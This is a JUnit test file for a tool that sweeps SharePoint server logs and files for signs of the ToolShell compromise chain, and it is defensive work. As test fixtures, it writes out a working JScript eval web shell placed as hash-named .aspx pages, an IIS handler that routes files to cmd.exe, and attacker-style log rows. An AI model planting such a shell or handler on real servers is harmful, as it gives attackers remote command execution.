package org.bellbuoy.server.sweep;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Collectors;
import org.bellbuoy.core.finding.Finding;
import org.bellbuoy.core.finding.Level;
import org.bellbuoy.core.json.FindingJson;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Entries of which a log tells half, and names and keys that must or must not be told. */
class UntoldEntriesTest {
  private static final String SHAREPOINT = "SharePoint 2019";
  private static final String STRANGER = " - 203.0.113.9 Mozilla/5.0 ";
  private static final String PANE =
      "2025-07-18 23:50:10 POST /_layouts/15/ToolPane.aspx DisplayMode=Edit&a=/ToolPane.aspx";

  @TempDir Path folder;
  private OneServer server;

  @BeforeEach
  void whole() throws Exception {
    server = new OneServer(folder);
    server.log("", 14, 20);
  }

  @Test
  void anEntryAnsweredWithAServerErrorCannotBeToldFromOneThatRan() throws Exception {
    server.append(18, PANE + STRANGER + "/_layouts/SignOut.aspx 500\n");
    ServerVerdict verdict = server.verdict(SHAREPOINT);
    assertThat(verdict.level()).isEqualTo(Level.CANNOT_TELL);
    assertThat(verdict.entered().word()).isEqualTo("tried");
    assertThat(verdict.entered().sentence()).contains("ended in status 500");
  }

  @ParameterizedTest(name = "{0} from {1}")
  @CsvSource({
    "500, /_layouts/SignOut.aspx",
    "401, /_layouts/SignOut.aspx",
    "200, http://www.example.test/other.aspx"
  })
  void aNewPageThatAnswersWhoTriedIsPossibleWhateverTheTryWasAnswered(int status, String referer)
      throws Exception {
    server.append(
        18,
        PANE
            + STRANGER
            + referer
            + " "
            + status
            + "\n2025-07-18 23:50:30 GET /_layouts/15/qqq.aspx -"
            + STRANGER
            + "- 200\n");
    ServerVerdict verdict = server.verdict(SHAREPOINT);
    assertThat(verdict.level()).isEqualTo(Level.POSSIBLE);
    assertThat(verdict.left().word()).isEqualTo("1 to find");
    assertThat(verdict.next()).contains("Find, secure and then remove /_layouts/15/qqq.aspx.");
  }

  @Test
  void aNewPageThatAnotherClientAsksForFromTheSignOutPageIsOfTheChain() throws Exception {
    server.append(
        18,
        PANE
            + STRANGER
            + "/_layouts/SignOut.aspx 200\n"
            + "2025-07-18 23:52:40 GET /_layouts/15/qqq.aspx - - 198.51.100.7 Mozilla/5.0"
            + " /_layouts/SignOut.aspx 200\n");
    ServerSweep.Result result = server.sweep(SHAREPOINT, null);
    assertThat(result.verdicts().getFirst().left().word()).isEqualTo("1 to find");
    assertThat(result.findings().toString()).doesNotContain("No new page");
  }

  @Test
  void aPageUsedAsHardlyAnyOtherIsToldInTheVerdictAndHasAStep() throws Exception {
    StringBuilder rows = new StringBuilder();
    for (int i = 10; i < 22; i++) {
      rows.append("2025-07-19 23:%d:10 GET /images/err.aspx cmd=%d".formatted(i, i))
          .append(STRANGER)
          .append("- 200\n");
    }
    server.append(19, rows.toString());
    ServerVerdict verdict = server.verdict(SHAREPOINT);
    assertThat(verdict.entered().sentence()).contains("One page is used as hardly any other");
    assertThat(verdict.entered().tone()).isNotEqualTo(Cell.Tone.CALM);
    assertThat(verdict.next()).anyMatch(step -> step.contains("/images/err.aspx"));
  }

  @Test
  void aGapOfHoursInAShortLogAndASiteWhoseLogsEndAreSeen() throws Exception {
    String day = Files.readString(server.day(16));
    Files.writeString(
        server.day(16),
        day.lines()
            .filter(
                row -> !row.matches("2025-07-16 1[0-2]:.*") || row.startsWith("2025-07-16 10:0"))
            .collect(Collectors.joining("\n", "", "\n")));
    Path other = folder.resolve("root/C/inetpub/logs/LogFiles/W3SVC7");
    Files.createDirectories(other);
    for (int i = 14; i < 18; i++) {
      Files.copy(server.day(i), other.resolve("u_ex2507" + i + ".log"));
    }
    ServerSweep.Result result = server.sweep(SHAREPOINT, null);
    ServerVerdict verdict = result.verdicts().getFirst();
    assertThat(verdict.coverage().sentence()).contains("2025-07-18, 2025-07-19");
    assertThat(result.findings().toString())
        .contains("The logs of W3SVC7 have no row from 2025-07-18 to 2025-07-19");
  }

  @Test
  void viewStateThatLogsWithoutBytesReceivedCannotShowIsSaid() throws Exception {
    ServerVerdict verdict = server.verdict(SHAREPOINT);
    assertThat(verdict.entered().sentence()).contains("no column cs-bytes");
    assertThat(verdict.entered().tone()).isEqualTo(Cell.Tone.WARNING);
  }

  @Test
  void shellsNamedByDigestsStayTwoAndCanBeFound() throws Exception {
    String layouts =
        "C/Program Files/Common Files/microsoft shared/Web Server Extensions/16/TEMPLATE/LAYOUTS/";
    String eval = "<%@ Page Language=\"JScript\" %><% eval(Request.Item[\"z\"],\"unsafe\"); %>";
    server.write(layouts + "9e107d9d372bb6826bd81d3542a419d6.aspx", eval);
    server.write(layouts + "e4d909c290d0fb1ca068ffaddf22cbd0.aspx", eval + "<!-- -->");
    ServerSweep.Result result = server.sweep(SHAREPOINT, null);
    assertThat(
            result.findings().stream()
                .filter(f -> f.rule().equals("server.web-script"))
                .map(Finding::id))
        .hasSize(2)
        .doesNotHaveDuplicates();
    assertThat(result.verdicts().getFirst().next().toString())
        .contains("9e107d9d372bb6826bd81d3542a419d6.aspx")
        .contains("e4d909c290d0fb1ca068ffaddf22cbd0.aspx");
  }

  @ParameterizedTest
  @ValueSource(strings = {"plain", "encoded"})
  void aKeyInALogOfTheDriverIsWrittenNowhere(String how) throws Exception {
    String key = "C75A1B".repeat(21) + "0D";
    String sent =
        how.equals("plain")
            ? key
            : key.chars().mapToObj(c -> "%" + Integer.toHexString(c)).collect(Collectors.joining());
    server.write(
        "C/Windows/System32/LogFiles/HTTPERR/httperr1.log",
        "#Software: Microsoft HTTP API 2.0\n#Version: 1.0\n#Date: 2025-07-18 00:00:00\n"
            + "#Fields: date time c-ip c-port s-ip s-port cs-version cs-method cs-uri streamid"
            + " sc-status s-siteid s-reason s-queuename\n"
            + "2025-07-18 10:00:00 203.0.113.9 5123 192.0.2.1 443 HTTP/1.1 POST"
            + " /_layouts/15/ToolPane.aspx?DisplayMode=Edit&k="
            + sent
            + " - 403 1 Forbidden pool\n");
    ServerSweep.Result result = server.sweep(SHAREPOINT, null);
    String told =
        result.findings().stream().map(FindingJson::write).collect(Collectors.joining())
            + result.page();
    assertThat(told)
        .contains("refused-by-http-sys")
        .contains("[blotted]")
        .doesNotContain("C75A1BC75A")
        .doesNotContain("%43%37");
  }

  @Test
  void aForgedFirstAddressOfAProxysHeaderIsNotTheOneAccused() throws Exception {
    Path log = server.day(18);
    Files.writeString(
        log,
        Files.readString(log)
            .replaceFirst("sc-status\n", "sc-status X-Forwarded-For\n")
            .replaceAll("(?m)200$", "200 -"));
    server.append(18, PANE + STRANGER + "/_layouts/SignOut.aspx 200 10.1.4.20,+198.51.100.77\n");
    List<Finding> entries =
        server.sweep(SHAREPOINT, null).findings().stream()
            .filter(f -> f.rule().equals("server.toolshell"))
            .toList();
    assertThat(entries).isNotEmpty();
    assertThat(entries)
        .allMatch(f -> "198.51.100.77".equals(f.subject().ids().get("ip")), entries.toString());
  }

  @Test
  void aHandlerThatGivesFilesToACommandInterpreterAndLoggingOfErrorsOnlyAreTold() throws Exception {
    server.write(
        "C/Windows/System32/inetsrv/config/applicationHost.config",
        "<configuration><system.webServer><httpLogging selectiveLogging=\"LogError\" /><handlers>"
            + "<add name=\"x\" path=\"*.abc\" verb=\"*\" modules=\"CgiModule\""
            + " scriptProcessor=\"C:\\Windows\\System32\\cmd.exe\" /></handlers>"
            + "</system.webServer></configuration>");
    String told = server.sweep(SHAREPOINT, null).findings().toString();
    assertThat(told).contains("which runs commands").contains("Only requests that fail are logged");
  }

  @Test
  void aPackedLogOfAKindThatIsNotReadIsNamed() throws Exception {
    server.write("C/inetpub/logs/LogFiles/W3SVC1/u_ex250713.log.bz2", "BZh91AY");
    assertThat(server.sweep(SHAREPOINT, null).problems())
        .anyMatch(p -> p.contains("u_ex250713.log.bz2") && p.contains("unpack it"));
  }

  @Test
  void aLogOfEventsThatWasClearedIsToldAndAccusesNobody() throws Exception {
    server.write(
        "C/Windows/System32/winevt/Exported/Sec.jsonl",
        "{\"EventID\": 1102, \"Channel\": \"Security\", \"SourceName\":"
            + " \"Microsoft-Windows-Eventlog\", \"Hostname\": \"one\", \"EventTime\":"
            + " \"2025-07-18 10:01:00\"}\n");
    ServerSweep.Result result = server.sweep(SHAREPOINT, null);
    assertThat(result.findings().toString()).contains("was cleared");
    assertThat(result.verdicts().getFirst().level()).isEqualTo(Level.UNLIKELY);
  }

  @Test
  void logsOfWhichNoLineIsARowAreNotCalledMissing() throws Exception {
    for (int day = 14; day < 20; day++) {
      Files.write(server.day(day), new byte[] {0x01, 0x02, 0x0a, 0x03, 0x0a});
    }
    ServerVerdict verdict = server.verdict(SHAREPOINT);
    assertThat(verdict.level()).isEqualTo(Level.CANNOT_TELL);
    assertThat(verdict.entered().sentence()).contains("no line of its web logs could be read");
  }

  @Test
  void aFileThatToolShellWroteKeysToIsToExplainThoughNobodyRunsIt() throws Exception {
    server.write(
        "C/Program Files/Common Files/microsoft shared/Web Server Extensions/16/TEMPLATE/LAYOUTS/debug_dev.js",
        "nothing of code");
    assertThat(server.verdict(SHAREPOINT).left().word()).isEqualTo("1 to explain");
  }
}
